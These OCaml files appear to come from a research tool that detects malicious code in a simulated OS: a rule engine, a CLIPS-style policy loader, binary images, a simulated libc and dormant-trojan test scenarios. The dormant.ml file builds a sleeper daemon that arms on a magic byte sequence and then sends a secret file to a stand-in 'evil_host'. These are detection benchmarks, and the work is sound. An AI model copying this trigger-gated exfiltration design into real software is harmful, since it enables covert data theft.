      | Sexp.List [ Sexp.Atom name; v ] -> name, slot_test v
      | f -> fail "malformed slot pattern %a" Sexp.pp f
    in
    Pattern.make ?binding tpl (List.map slot slots)
  | f -> fail "malformed pattern %a" Sexp.pp f

(* --- actions --------------------------------------------------------- *)

let rec run_action eng env (form : Sexp.t) =
  match form with
  | Sexp.List [ Sexp.Atom "assert"; Sexp.List (Sexp.Atom tpl :: slots) ] ->
    let slot = function
      | Sexp.List [ Sexp.Atom name; v ] -> name, eval_expr eng env v
      | f -> fail "malformed assert slot %a" Sexp.pp f
    in
    ignore (Engine.assert_fact eng tpl (List.map slot slots))
  | Sexp.List [ Sexp.Atom "retract"; v ] ->
    (match eval_expr eng env v with
     | Value.Int id -> Engine.retract_id eng id
     | v -> fail "retract expects a fact id, got %a" Value.pp v)
  | Sexp.List (Sexp.Atom "printout" :: Sexp.Atom "t" :: args) ->
    let b = Buffer.create 64 in
    List.iter
      (fun arg ->
        match arg with
        | Sexp.Atom "crlf" ->
          Engine.printout eng (Buffer.contents b);
          Buffer.clear b
        | _ -> Buffer.add_string b (Value.text (eval_expr eng env arg)))
      args;
    if Buffer.length b > 0 then Engine.printout eng (Buffer.contents b)
  | Sexp.List [ Sexp.Atom "bind"; Sexp.Atom var; e ] when is_var var ->
    env.vars <- (var_name var, eval_expr eng env e) :: env.vars
  | Sexp.List (Sexp.Atom "if" :: rest) ->
    let rec split_then acc = function
      | Sexp.Atom "then" :: rest -> List.rev acc, rest
      | x :: rest -> split_then (x :: acc) rest
      | [] -> fail "if without then"
    in
    let cond_forms, rest = split_then [] rest in
    let cond =
      match cond_forms with
      | [ c ] -> c
      | _ -> fail "if expects a single condition"
    in
    let rec split_else acc = function
      | Sexp.Atom "else" :: rest -> List.rev acc, rest
      | x :: rest -> split_else (x :: acc) rest
      | [] -> List.rev acc, []
    in
    let then_acts, else_acts = split_else [] rest in
    let branch =
      if Value.truthy (eval_expr eng env cond) then then_acts else else_acts
    in
    List.iter (run_action eng env) branch
  | _ ->
    (* allow bare function-call actions, e.g. host side effects *)
    ignore (eval_expr eng env form)

(* --- defrule --------------------------------------------------------- *)

let compile_defrule = function
  | Sexp.Atom name :: rest ->
    let rest =
      match rest with Sexp.Quoted _ :: r -> r | r -> r
    in
    let rec split_lhs acc = function
      | Sexp.Atom "=>" :: actions -> List.rev acc, actions
      | x :: rest -> split_lhs (x :: acc) rest
      | [] -> fail "defrule %s: missing =>" name
    in
    let lhs, actions = split_lhs [] rest in
    (* group [?f <- pattern] sequences and (test ...) elements *)
    let rec walk patterns negated tests = function
      | [] -> List.rev patterns, List.rev negated, List.rev tests
      | Sexp.Atom v :: Sexp.Atom "<-" :: (Sexp.List _ as p) :: rest
        when is_var v ->
        walk (parse_pattern ~binding:(var_name v) p :: patterns) negated
          tests rest
      | Sexp.List (Sexp.Atom "test" :: [ expr ]) :: rest ->
        walk patterns negated (expr :: tests) rest
      | Sexp.List [ Sexp.Atom "not"; (Sexp.List _ as p) ] :: rest ->
        walk patterns (parse_pattern p :: negated) tests rest
      | (Sexp.List _ as p) :: rest ->
        walk (parse_pattern p :: patterns) negated tests rest
      | f :: _ -> fail "defrule %s: malformed LHS element %a" name Sexp.pp f
    in
    let patterns, negated, tests = walk [] [] [] lhs in
    let guard eng bindings =
      let env = { vars = bindings } in
      List.for_all (fun t -> Value.truthy (eval_expr eng env t)) tests
    in
    let action eng bindings _facts =
      let env = { vars = bindings } in
      List.iter (run_action eng env) actions
    in
    Engine.rule ~name ~negated ~guard patterns action
  | _ -> fail "defrule: missing name"

let parse_defrule eng rest = Engine.defrule eng (compile_defrule rest)

(* --- deftemplate ----------------------------------------------------- *)

let parse_deftemplate eng = function
  | Sexp.Atom name :: rest ->
    let rest = match rest with Sexp.Quoted _ :: r -> r | r -> r in
    let slot = function
      | Sexp.List [ Sexp.Atom ("slot" | "multislot"); Sexp.Atom sname ] ->
        Template.slot sname
      | Sexp.List
          [ Sexp.Atom ("slot" | "multislot"); Sexp.Atom sname;
            Sexp.List (Sexp.Atom "default" :: [ d ]) ] ->
        let env = { vars = [] } in
        Template.slot ~default:(eval_expr eng env d) sname
      | f -> fail "deftemplate %s: malformed slot %a" name Sexp.pp f
    in
    Engine.deftemplate eng (Template.make name (List.map slot rest))
  | _ -> fail "deftemplate: missing name"

(* (deffunction name (?a ?b) expr...) — the last expression's value is
   the result *)
let parse_deffunction eng = function
  | Sexp.Atom name :: Sexp.List params :: body when body <> [] ->
    let params =
      List.map
        (function
          | Sexp.Atom p when is_var p -> var_name p
          | f -> fail "deffunction %s: bad parameter %a" name Sexp.pp f)
        params
    in
    Engine.defun eng name (fun args ->
        if List.length args <> List.length params then
          fail "%s expects %d arguments, got %d" name (List.length params)
            (List.length args);
        let env = { vars = List.combine params args } in
        List.fold_left (fun _ form -> eval_expr eng env form)
          (Value.Sym "nil") body)
  | _ -> fail "malformed deffunction"

let parse_defglobal eng = function
  | [ Sexp.Atom g; Sexp.Atom "="; v ] when is_global g ->
    Engine.set_global eng (global_name g) (eval_expr eng { vars = [] } v)
  | [ Sexp.Atom g; v ] when is_global g ->
    Engine.set_global eng (global_name g) (eval_expr eng { vars = [] } v)
  | _ -> fail "malformed defglobal"

let load_form eng = function
  | Sexp.List (Sexp.Atom "deftemplate" :: rest) -> parse_deftemplate eng rest
  | Sexp.List (Sexp.Atom "defrule" :: rest) -> parse_defrule eng rest
  | Sexp.List (Sexp.Atom "defglobal" :: rest) -> parse_defglobal eng rest
  | Sexp.List (Sexp.Atom "deffunction" :: rest) -> parse_deffunction eng rest
  | Sexp.List [ Sexp.Atom "assert"; _ ] as f ->
    run_action eng { vars = [] } f
  | f -> fail "unsupported toplevel form %a" Sexp.pp f

let parse text =
  try Sexp.parse_all text
  with Sexp.Parse_error msg -> raise (Error msg)

type installer = Engine.t -> unit

(* Rule values are engine-independent (guards and actions receive the
   engine at firing time), so the expensive part of a defrule — walking
   the LHS, building patterns and closing over the action forms — can be
   done once and the finished rule installed into any number of
   engines.  The remaining form kinds are engine-stateful (templates can
   evaluate slot defaults against globals; deffunction/defglobal/assert
   mutate the engine), so they stay as deferred per-engine loads of the
   already-parsed form. *)
let compile_form : Sexp.t -> installer = function
  | Sexp.List (Sexp.Atom "defrule" :: rest) ->
    let rule = compile_defrule rest in
    fun eng -> Engine.defrule eng rule
  | f -> fun eng -> load_form eng f

let compile_forms forms = List.map compile_form forms

let install_compiled eng installers =
  install_builtins eng;
  List.iter (fun f -> f eng) installers

let load_forms eng forms =
  install_builtins eng;
  List.iter (load_form eng) forms

let load eng text = load_forms eng (parse text)

let eval eng text =
  try eval_expr eng { vars = [] } (Sexp.parse text)
  with Sexp.Parse_error msg -> raise (Error msg)
