type t = {
  templates : (string, Template.t) Hashtbl.t;
  mutable rules_rev : rule list;  (* reversed definition order *)
  mutable rules_fwd : rule list option;  (* memoized definition order *)
  wm_by_tpl : (string, Fact.t list) Hashtbl.t;
      (* working memory indexed by template name, newest first — joins
         only ever look at facts of the pattern's template *)
  wm_by_id : (int, Fact.t) Hashtbl.t;
  mutable wm_count : int;
  mutable next_id : int;
  fired : (string, unit) Hashtbl.t;  (* refraction keys *)
  fns : (string, Value.t list -> Value.t) Hashtbl.t;
  globals : (string, Value.t) Hashtbl.t;
  mutable out : string -> unit;
  mutable buffered : string list;  (* reversed *)
  mutable current : (string * Fact.t list) option;
      (* the activation being fired right now: rule name + matched
         facts, visible to code called from rule actions (warning
         sinks capture it as evidence) *)
}

and rule = {
  rule_name : string;
  salience : int;
  patterns : Pattern.t list;
  negated : Pattern.t list;
      (* CLIPS [not] conditional elements: the rule activates only when
         no fact matches them under the accumulated bindings *)
  guard : t -> Pattern.bindings -> bool;
  action : t -> Pattern.bindings -> Fact.t list -> unit;
}

let rule ~name ?(salience = 0) ?(negated = []) ?(guard = fun _ _ -> true)
    patterns action =
  { rule_name = name; salience; negated; patterns; guard; action }

let c_asserted = Obs.Counter.make "expert.facts.asserted"
let c_retracted = Obs.Counter.make "expert.facts.retracted"
let c_activations = Obs.Counter.make "expert.activations"
let c_firings = Obs.Counter.make "expert.firings"

let create () =
  let e =
    { templates = Hashtbl.create 16; rules_rev = []; rules_fwd = Some [];
      wm_by_tpl = Hashtbl.create 16; wm_by_id = Hashtbl.create 64;
      wm_count = 0; next_id = 1;
      fired = Hashtbl.create 64; fns = Hashtbl.create 16;
      globals = Hashtbl.create 16; out = ignore; buffered = [];
      current = None }
  in
  e.out <- (fun line -> e.buffered <- line :: e.buffered);
  e

let deftemplate e tpl = Hashtbl.replace e.templates tpl.Template.tpl_name tpl

let template e name = Hashtbl.find_opt e.templates name

let defrule e r =
  e.rules_rev <- r :: e.rules_rev;
  e.rules_fwd <- None

let rules e =
  match e.rules_fwd with
  | Some rs -> rs
  | None ->
    let rs = List.rev e.rules_rev in
    e.rules_fwd <- Some rs;
    rs

let defun e name f = Hashtbl.replace e.fns name f

let call_fn e name args =
  match Hashtbl.find_opt e.fns name with
  | Some f -> f args
  | None -> failwith (Fmt.str "Engine: unknown function %S" name)

let set_global e name v = Hashtbl.replace e.globals name v

let global e name = Hashtbl.find_opt e.globals name

(* Facts of one template, newest first. *)
let bucket e tpl_name =
  match Hashtbl.find_opt e.wm_by_tpl tpl_name with
  | Some facts -> facts
  | None -> []

let assert_fact e tpl_name slots =
  let tpl =
    match template e tpl_name with
    | Some t -> t
    | None -> failwith (Fmt.str "Engine: unknown template %S" tpl_name)
  in
  match Template.normalize tpl slots with
  | Error msg -> failwith ("Engine: " ^ msg)
  | Ok slots ->
    let fact = Fact.make ~id:e.next_id ~template:tpl_name ~slots in
    Obs.Counter.incr c_asserted;
    e.next_id <- e.next_id + 1;
    Hashtbl.replace e.wm_by_tpl tpl_name (fact :: bucket e tpl_name);
    Hashtbl.replace e.wm_by_id fact.Fact.id fact;
    e.wm_count <- e.wm_count + 1;
    fact

let retract_id e id =
  match Hashtbl.find_opt e.wm_by_id id with
  | None -> ()
  | Some fact ->
    Obs.Counter.incr c_retracted;
    Hashtbl.remove e.wm_by_id id;
    e.wm_count <- e.wm_count - 1;
    let tpl = fact.Fact.template in
    Hashtbl.replace e.wm_by_tpl tpl
      (List.filter (fun f -> f.Fact.id <> id) (bucket e tpl))

let retract e (f : Fact.t) = retract_id e f.id

(* Ids are allocated monotonically, so newest-first is descending id. *)
let facts e =
  Hashtbl.fold (fun _ f acc -> f :: acc) e.wm_by_id []
  |> List.sort (fun a b -> Int.compare b.Fact.id a.Fact.id)

let fact_by_id e id = Hashtbl.find_opt e.wm_by_id id

let printout e line = e.out line

let set_out e f = e.out <- f

let drain_output e =
  let lines = List.rev e.buffered in
  e.buffered <- [];
  lines

(* An activation key encodes rule name + matched fact ids for refraction. *)
let activation_key rule facts =
  String.concat ","
    (rule.rule_name :: List.map (fun f -> string_of_int f.Fact.id) facts)

(* Enumerate activations by depth-first join over the rule's patterns,
   each pattern considering only the facts of its own template; negated
   conditional elements must match no fact under the final bindings. *)
let activations e rule =
  let negation_clear bindings =
    not
      (List.exists
         (fun p ->
           List.exists
             (fun f -> Pattern.match_fact p bindings f <> None)
             (bucket e p.Pattern.p_template))
         rule.negated)
  in
  let rec go patterns bindings matched acc =
    match patterns with
    | [] ->
      let matched = List.rev matched in
      if rule.guard e bindings && negation_clear bindings then begin
        Obs.Counter.incr c_activations;
        (bindings, matched) :: acc
      end
      else acc
    | p :: rest ->
      List.fold_left
        (fun acc fact ->
          match Pattern.match_fact p bindings fact with
          | Some bindings' -> go rest bindings' (fact :: matched) acc
          | None -> acc)
        acc
        (bucket e p.Pattern.p_template)
  in
  go rule.patterns [] [] []

let next_activation e =
  let candidates =
    List.concat_map
      (fun rule ->
        List.filter_map
          (fun (bindings, matched) ->
            let key = activation_key rule matched in
            if Hashtbl.mem e.fired key then None
            else Some (rule, bindings, matched, key))
          (activations e rule))
      (rules e)
  in
  match candidates with
  | [] -> None
  | first :: rest ->
    let best =
      List.fold_left
        (fun ((r, _, _, _) as best) ((r', _, _, _) as cand) ->
          if r'.salience > r.salience then cand else best)
        first rest
    in
    Some best

let run ?(limit = 10_000) e =
  let rec loop fired =
    if fired >= limit then fired
    else
      match next_activation e with
      | None -> fired
      | Some (rule, bindings, matched, key) ->
        Hashtbl.replace e.fired key ();
        Obs.Counter.incr c_firings;
        Obs.Counter.incr (Obs.Counter.labeled "expert.firings" rule.rule_name);
        if Obs.Trace.enabled () then
          Obs.Trace.emit "rule"
            [ "name", Obs.Str rule.rule_name;
              "salience", Obs.Int rule.salience;
              "facts", Obs.Int (List.length matched);
              "fact_ids",
              Obs.Str
                (String.concat ","
                   (List.map
                      (fun f -> string_of_int f.Fact.id)
                      matched)) ];
        e.current <- Some (rule.rule_name, matched);
        Fun.protect
          ~finally:(fun () -> e.current <- None)
          (fun () -> rule.action e bindings matched);
        loop (fired + 1)
  in
  loop 0

let current_activation e = e.current
