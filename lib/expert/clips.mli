(** A loader for a CLIPS-like textual policy language.

    Supports the subset exercised by the paper's Appendix A:
    - [(deftemplate name (slot s) ...)] with optional [(default v)];
    - [(defglobal ?*name* = value)];
    - [(defrule name "doc" lhs... => action...)] where the LHS mixes
      patterns, fact bindings [?f <- (pattern)] and [(test expr)]
      conditional elements, and actions include [assert], [retract],
      [printout], [bind] and [if/then/else];
    - [(deffunction name (?a ?b) expr...)] — in-language helper
      functions, callable from tests and actions;
    - toplevel [(assert (template (slot v)...))].

    Expressions call built-in functions ([eq], [neq], [<], [>], [and],
    [or], [not], [+], [-], [*], [str-cat], [empty-list], [length]) or host
    functions registered with {!Engine.defun} — the paper's policy relies
    on host functions [filter_binary] and [filter_socket]. *)

exception Error of string

(** [load engine text] parses and installs every form in [text].
    Equivalent to [load_forms engine (parse text)].
    @raise Error on syntax or semantic problems. *)
val load : Engine.t -> string -> unit

(** [parse text] is the parsed toplevel form list of [text], without
    installing anything.  Parse once, then {!load_forms} the result into
    any number of engines (compile-once policy sharing).
    @raise Error on syntax problems. *)
val parse : string -> Sexp.t list

(** [load_forms engine forms] installs pre-parsed forms (calls
    {!install_builtins} first).
    @raise Error on semantic problems. *)
val load_forms : Engine.t -> Sexp.t list -> unit

(** One compiled toplevel form, ready to install into an engine. *)
type installer = Engine.t -> unit

(** [compile_forms forms] does the engine-independent compilation work
    once: defrule LHS walking, pattern construction and action-closure
    building.  The resulting installers can be applied to any number of
    engines ({!install_compiled}); rules are shared as finished values,
    engine-stateful forms (templates, functions, globals, asserts) are
    loaded per engine.
    @raise Error on semantic problems in a defrule. *)
val compile_forms : Sexp.t list -> installer list

(** [install_compiled engine installers] registers the builtins, then
    applies each installer in order — the compile-once counterpart of
    {!load_forms}.
    @raise Error on semantic problems. *)
val install_compiled : Engine.t -> installer list -> unit

(** [eval engine expr_text] parses one expression and evaluates it with no
    variable bindings (globals are visible); useful in tests. *)
val eval : Engine.t -> string -> Value.t

(** [install_builtins engine] registers the built-in function set; [load]
    calls it automatically. *)
val install_builtins : Engine.t -> unit
