type kind = Executable | Shared_object

type t = {
  path : string;
  kind : kind;
  base : int;
  text : Isa.Insn.t array;
  sections : Section.t list;
  exports : Symbol.export list;
  relocs : Symbol.reloc list;
  needed : string list;
  entry : int;
  blocks : int array;
}

let make ~path ~kind ~base ~text ~sections ~exports ~relocs ~needed ~entry =
  { path; kind; base; text; sections; exports; relocs; needed; entry;
    blocks = Isa.Block.body_lens text }

let text_end img = img.base + Array.length img.text

let contains_text img addr = addr >= img.base && addr < text_end img

let fetch img addr =
  if contains_text img addr then Some img.text.(addr - img.base) else None

let patch_insn insn addr =
  let open Isa.Insn in
  match insn with
  | Call (Imm _) -> Call (Imm addr)
  | Jmp (Imm _) -> Jmp (Imm addr)
  | Mov (sz, dst, Imm _) -> Mov (sz, dst, Imm addr)
  | Push (Imm _) -> Push (Imm addr)
  | _ ->
    failwith
      (Fmt.str "Image.link: unsupported relocation target %s"
         (to_string insn))

let link img ~resolve =
  let text = Array.copy img.text in
  List.iter
    (fun (r : Symbol.reloc) ->
      match resolve r.target with
      | Some addr -> text.(r.text_index) <- patch_insn text.(r.text_index) addr
      | None ->
        failwith (Fmt.str "Image.link: unresolved symbol %S in %s" r.target
                    img.path))
    img.relocs;
  { img with text; relocs = [] }

let exported_routine img addr =
  List.find_map
    (fun (e : Symbol.export) ->
      if e.sym_addr = addr then Some e.sym_name else None)
    img.exports

let pp ppf img =
  let kind = match img.kind with
    | Executable -> "exec"
    | Shared_object -> "so"
  in
  Fmt.pf ppf "@[<v>%s (%s) base=0x%x text=%d insns entry=0x%x@,%a@]"
    img.path kind img.base (Array.length img.text) img.entry
    Fmt.(list ~sep:cut Section.pp) img.sections
