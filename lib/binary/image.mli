(** Binary images: the unit of loading.

    An image is either an executable or a shared object.  It carries a text
    segment (instructions), data sections, an export table, import
    relocations, and the list of shared objects it needs.  Images are
    assembled at a fixed base address (the simulated world does not
    relocate), which keeps internal references absolute. *)

type kind = Executable | Shared_object

type t = {
  path : string;  (** filesystem path, e.g. ["/bin/ls"], ["/lib/libc.so"] *)
  kind : kind;
  base : int;  (** load address of text[0] *)
  text : Isa.Insn.t array;
  sections : Section.t list;  (** data sections at absolute addresses *)
  exports : Symbol.export list;
  relocs : Symbol.reloc list;
  needed : string list;  (** paths of shared objects this image requires *)
  entry : int;  (** absolute address of the entry point *)
  blocks : int array;
      (** [blocks.(i)] is the straight-line body length starting at
          [text.(i)] (see {!Isa.Block.body_lens}); computed once at
          {!make} and invariant under {!link}, because relocation
          patching preserves instruction shape *)
}

val make :
  path:string ->
  kind:kind ->
  base:int ->
  text:Isa.Insn.t array ->
  sections:Section.t list ->
  exports:Symbol.export list ->
  relocs:Symbol.reloc list ->
  needed:string list ->
  entry:int ->
  t

(** [text_end img] is one past the last text address. *)
val text_end : t -> int

(** [contains_text img addr] is true if [addr] is inside the text
    segment. *)
val contains_text : t -> int -> bool

(** [fetch img addr] is the instruction at absolute address [addr]. *)
val fetch : t -> int -> Isa.Insn.t option

(** [link img ~resolve] patches every import relocation using [resolve]
    (symbol name to absolute address), returning the linked image.
    Relocations must target a [Call], [Jmp] or [Mov] immediate.
    @raise Failure if a symbol cannot be resolved or a relocation targets
    an unsupported instruction. *)
val link : t -> resolve:(string -> int option) -> t

(** [exported_routine img addr] is the exported symbol whose address is
    exactly [addr], used by the monitor to detect routine entry. *)
val exported_routine : t -> int -> string option

val pp : Format.formatter -> t -> unit
