open Asm

let path = "/lib/libc.so"

let base = 0x40000

let build () =
  let u = create ~path ~kind:Binary.Image.Shared_object ~base () in
  (* ---------------- data ---------------- *)
  asciz u "__hosts_path" "/etc/hosts.db";
  asciz u "__sh_path" "/bin/sh";
  asciz u "__dash_c" "-c";
  space u "__h_rec" 20;
  space u "__h_fd" 4;
  space u "__h_result" 4;
  space u "__sys_argv" 16;

  (* ---------------- gethostbyname(name ptr) ---------------- *)
  label u "gethostbyname";
  export u "gethostbyname";
  movl u esi (ind_off ESP 4);  (* hostname pointer *)
  (* open the hosts database *)
  movl u ebx (lbl "__hosts_path");
  movl u ecx (imm 0);
  movl u eax (imm Osim.Abi.sys_open);
  int80 u;
  testl u eax eax;
  js u "__ghbn_fail";
  movl u (mlbl "__h_fd") eax;
  label u "__ghbn_rec";
  (* read one 20-byte record *)
  movl u ebx (mlbl "__h_fd");
  movl u ecx (lbl "__h_rec");
  movl u edx (imm 20);
  movl u eax (imm Osim.Abi.sys_read);
  int80 u;
  cmpl u eax (imm 20);
  jnz u "__ghbn_notfound";
  (* compare the queried name with the record's padded name *)
  xorl u ecx ecx;
  label u "__ghbn_cmp";
  movb u edx (idx ESI ECX 1 0);
  movb u ebx (mlbl_base ECX "__h_rec");
  cmpb u edx ebx;
  jnz u "__ghbn_rec";
  testl u edx edx;
  jz u "__ghbn_match";
  incl u ecx;
  cmpl u ecx (imm 16);
  jl u "__ghbn_cmp";
  label u "__ghbn_match";
  (* copy the record's 4 address bytes into the static result *)
  movl u eax (mlbl ~off:16 "__h_rec");
  movl u (mlbl "__h_result") eax;
  movl u ebx (mlbl "__h_fd");
  movl u eax (imm Osim.Abi.sys_close);
  int80 u;
  movl u eax (lbl "__h_result");
  ret u;
  label u "__ghbn_notfound";
  movl u ebx (mlbl "__h_fd");
  movl u eax (imm Osim.Abi.sys_close);
  int80 u;
  label u "__ghbn_fail";
  xorl u eax eax;
  ret u;

  (* ---------------- system(cmd ptr) ---------------- *)
  label u "system";
  export u "system";
  movl u esi (ind_off ESP 4);  (* command string pointer *)
  movl u eax (imm Osim.Abi.sys_fork);
  int80 u;
  testl u eax eax;
  jnz u "__system_parent";
  (* child: execve("/bin/sh", ["/bin/sh"; "-c"; cmd]) *)
  movl u (mlbl "__sys_argv") (lbl "__sh_path");
  movl u (mlbl ~off:4 "__sys_argv") (lbl "__dash_c");
  movl u (mlbl ~off:8 "__sys_argv") esi;
  movl u (mlbl ~off:12 "__sys_argv") (imm 0);
  movl u ebx (lbl "__sh_path");
  movl u ecx (lbl "__sys_argv");
  movl u eax (imm Osim.Abi.sys_execve);
  int80 u;
  (* exec failed *)
  movl u ebx (imm 127);
  movl u eax (imm Osim.Abi.sys_exit);
  int80 u;
  label u "__system_parent";
  ret u;

  (* ---------------- sleep(ticks) ---------------- *)
  label u "sleep";
  export u "sleep";
  movl u ebx (ind_off ESP 4);
  movl u eax (imm Osim.Abi.sys_nanosleep);
  int80 u;
  ret u;

  finalize u

(* Built eagerly at module init (assembly is microseconds): a [lazy]
   here would be forced from whichever domain first touches the corpus,
   and concurrent forcing across fleet workers can raise
   [Lazy.Undefined].  Eager init happens in the main domain before any
   worker exists. *)
let cached = build ()

let image () = cached
