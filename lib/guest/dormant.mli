(** Dormant-trojan scenarios: programs that idle benignly for thousands
    of ticks and only arm on an external trigger.

    Four families, each run in three modes (never triggered / triggered
    / triggered-then-disarmed):
    - a sleeper daemon armed by a magic byte sequence on a socket and
      stood down by a second sequence;
    - a logic bomb keyed on the simulated date and a rendezvous record
      in the hosts database, with a kill-switch file;
    - a two-process worm that replicates to a peer only after a
      vulnerable banner (and honours a recall);
    - a fake update client whose payload arrives over the wire as a new
      image.

    The armed path of every program must execute only in the triggered
    mode, stay out of the hot-block profile even then, and produce a
    warning whose evidence chain cites the trigger input. *)

val group : string

(** Arm / disarm magic for the sleeper daemon's byte automaton.  Both
    magics start with a byte that does not recur inside them, so the
    automaton's first-character fallback makes matching exactly
    substring containment (no partial-match false arming). *)

val magic_arm : string

val magic_disarm : string

(** Ticks every scripted peer stays silent before delivering anything —
    beyond the policy's long-time threshold, so armed paths are
    rarely-executed by construction. *)
val trigger_delay : int

(** Armed-path address ranges [(first, past-last)) of each family's
    program, from the images' [payload] / [payload_end] exports — the
    hot/cold profile assertions check executed blocks against these. *)

val sleeper_payload : int * int

val bomb_payload : int * int

val worm_payload : int * int

val update_payload : int * int

(** [sleeper_daemon ~name ~descr ~expected ~script] is a sleeper-daemon
    scenario against a custom attacker script — the qcheck no-false-
    arming property feeds random byte sequences through this. *)
val sleeper_daemon :
  name:string -> descr:string -> expected:Scenario.expected ->
  script:Osim.Net.step list -> Scenario.t

(** The twelve corpus scenarios (four families x three modes). *)
val scenarios : Scenario.t list
