let groups =
  [ "table1", "Execution patterns of malicious code", Characterize.scenarios;
    "table4", "Micro benchmarks - Execution Flow", Micro_exec.scenarios;
    "table5", "Micro benchmarks - Resource Abuse", Micro_fork.scenarios;
    "table6", "Micro benchmarks - Information Flow", Micro_flow.scenarios;
    "table7", "Trusted programs", Trusted.scenarios;
    "table8", "Real exploits", Exploits.scenarios;
    "macro", "Macro benchmarks", Macro.scenarios;
    "extensions", "Future-work extensions (Section 10)",
    Extensions.scenarios;
    "dormant", "Dormant trojans (trigger-gated payloads)",
    Dormant.scenarios ]

let all = List.concat_map (fun (_, _, scs) -> scs) groups

let find name =
  List.find_opt (fun (sc : Scenario.t) -> String.equal sc.sc_name name) all

let names = List.map (fun (sc : Scenario.t) -> sc.sc_name) all
