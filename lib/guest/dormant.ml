open Asm

(* Dormant-trojan scenario family.

   Every program here idles benignly for thousands of ticks and only
   arms when an external trigger arrives: a magic byte sequence on a
   socket, a record planted in the hosts database, a "vulnerable"
   banner from a peer, or a payload image offered by an update mirror.
   Each family is run in three modes — never triggered, triggered, and
   triggered-then-disarmed — and the armed path must execute (and
   produce a warning with a trigger-citing evidence chain) only in the
   triggered mode.

   The scripted-peer [Delay] step supplies the dormancy: the trigger
   bytes are withheld until the simulated clock passes a deadline, so
   the armed block is both cold (frequency 1) and late (time beyond the
   long-time threshold) — exactly the rarely-executed reinforcement of
   Section 4.4, now meeting the compare-guard taint that marks the
   transfer as steered by remote bytes. *)

let group = "dormant"

let magic_arm = "ARM!"
let magic_disarm = "DIS!"

(* Ticks the scripted peers stay silent before delivering anything.
   Must exceed the policy's long-time threshold (2000) so the armed
   path is classified rarely-executed. *)
let trigger_delay = 3000

let trigger_port = 4444
let worm_port = 7777
let exfil_port = 6666
let update_port = 8080

let secret_file = "/data/secret.db"
let secret_data = "dormant-secret-database-payload!"

(* ------------------------------------------------------------------ *)
(* Byte-automaton emitter                                              *)

(* Emits code matching [magic] against the byte in the low part of
   [edx], one byte per pass, with the automaton state in the word at
   label [id ^ "_st"] (caller reserves it).  On a complete match the
   state resets and [on_hit] runs.  On a mismatch the state falls back
   to 1 when the byte re-matches the magic's first character, else 0 —
   for magics whose first byte does not recur this is the exact KMP
   automaton, so matching equals substring containment (the no-partial-
   match property the qcheck suite exercises). *)
let emit_matcher u ~id ~magic ~on_hit =
  let n = String.length magic in
  let st = mlbl (id ^ "_st") in
  let s i = Fmt.str "%s_s%d" id i in
  let miss i = Fmt.str "%s_m%d" id i in
  let fin = id ^ "_done" in
  for i = 0 to n - 2 do
    cmpl u st (imm i);
    jz u (s i)
  done;
  jmp u (s (n - 1));
  for i = 0 to n - 1 do
    label u (s i);
    cmpb u edx (imm (Char.code magic.[i]));
    jnz u (miss i);
    if i < n - 1 then begin
      incl u st;
      jmp u fin
    end
    else begin
      movl u st (imm 0);
      on_hit ();
      jmp u fin
    end;
    label u (miss i);
    if i = 0 then jmp u fin
    else begin
      movl u st (imm 0);
      cmpb u edx (imm (Char.code magic.[0]));
      jnz u fin;
      movl u st (imm 1);
      jmp u fin
    end
  done;
  label u fin

let payload_range (img : Binary.Image.t) =
  match
    Binary.Symbol.find_export img.exports "payload",
    Binary.Symbol.find_export img.exports "payload_end"
  with
  | Some a, Some b -> a, b
  | _ -> invalid_arg "dormant image lacks payload exports"

(* ------------------------------------------------------------------ *)
(* 1. Sleeper daemon                                                   *)

(* Accepts one connection and feeds every received byte through two
   automata: "ARM!" arms, "DIS!" disarms.  The armed flag stores the
   trigger byte itself, so the flag (and the compare that consults it)
   carries the attacker socket's taint.  At EOF an armed daemon
   exfiltrates the hard-coded secret database to a hard-coded
   collector; a disarmed or never-armed one exits silently. *)
let sleeper_exe =
  let u =
    create ~path:"/bin/slpd" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  asciz u "secret" secret_file;
  Runtime.static_sockaddr u "listen_sa" ~ip:Hth.Session.localhost_ip
    ~port:trigger_port;
  Runtime.static_sockaddr u "exfil_sa" ~ip:(snd Common.evil_host)
    ~port:exfil_port;
  space u "arm_st" 4;
  space u "dis_st" 4;
  space u "armed" 4;
  space u "lfd" 4;
  space u "cfd" 4;
  space u "sfd" 4;
  space u "xfd" 4;
  space u "dlen" 4;
  label u "_start";
  Runtime.sys_socket u;
  movl u (mlbl "lfd") eax;
  Runtime.sys_bind u ~fd:(mlbl "lfd") ~addr:(lbl "listen_sa");
  Runtime.sys_listen u ~fd:(mlbl "lfd");
  Runtime.sys_accept u ~fd:(mlbl "lfd");
  movl u (mlbl "cfd") eax;
  label u "loop";
  Runtime.sys_recv u ~fd:(mlbl "cfd") ~buf:(lbl "__buf") ~len:(imm 1);
  testl u eax eax;
  jz u "eof";
  js u "eof";
  movb u edx (mlbl "__buf");
  emit_matcher u ~id:"arm" ~magic:magic_arm ~on_hit:(fun () ->
      (* store the trigger byte itself: the flag inherits the socket
         taint, so the later armed-check compare sets the guard *)
      movb u (mlbl "armed") edx);
  emit_matcher u ~id:"dis" ~magic:magic_disarm ~on_hit:(fun () ->
      movl u (mlbl "armed") (imm 0));
  jmp u "loop";
  label u "eof";
  Runtime.sys_close u ~fd:(mlbl "cfd");
  Runtime.sys_close u ~fd:(mlbl "lfd");
  cmpl u (mlbl "armed") (imm 0);
  jz u "quit";
  label u "payload";
  export u "payload";
  Runtime.sys_open u ~path:(lbl "secret") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "sfd") eax;
  Runtime.sys_read u ~fd:(mlbl "sfd") ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "dlen") eax;
  Runtime.sys_close u ~fd:(mlbl "sfd");
  Runtime.sys_socket u;
  movl u (mlbl "xfd") eax;
  Runtime.sys_connect u ~fd:(mlbl "xfd") ~addr:(lbl "exfil_sa");
  Runtime.sys_send u ~fd:(mlbl "xfd") ~buf:(lbl "__buf") ~len:(mlbl "dlen");
  Runtime.sys_close u ~fd:(mlbl "xfd");
  label u "payload_end";
  export u "payload_end";
  label u "quit";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let sleeper_payload = payload_range sleeper_exe

let sleeper_daemon ~name ~descr ~expected ~script =
  Scenario.make ~name ~group ~descr ~expected
    (Hth.Session.setup
       ~programs:[ sleeper_exe ]
       ~files:[ secret_file, secret_data ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, exfil_port,
           { Osim.Net.actor_host = fst Common.evil_host; script = [] } ]
       ~incoming:[ trigger_port, { Osim.Net.actor_host = "attacker"; script } ]
